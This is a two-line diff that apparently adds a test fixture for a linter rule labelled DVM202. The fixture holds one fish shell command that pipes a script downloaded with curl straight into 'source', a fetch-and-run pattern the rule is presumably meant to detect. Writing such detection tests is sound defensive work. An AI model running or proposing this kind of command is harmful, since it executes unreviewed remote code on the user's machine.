@@ -1,0 +1,2 @@
+# expect: DVM202
+fish -c 'curl -fsSL https://example.org/i.sh | source'
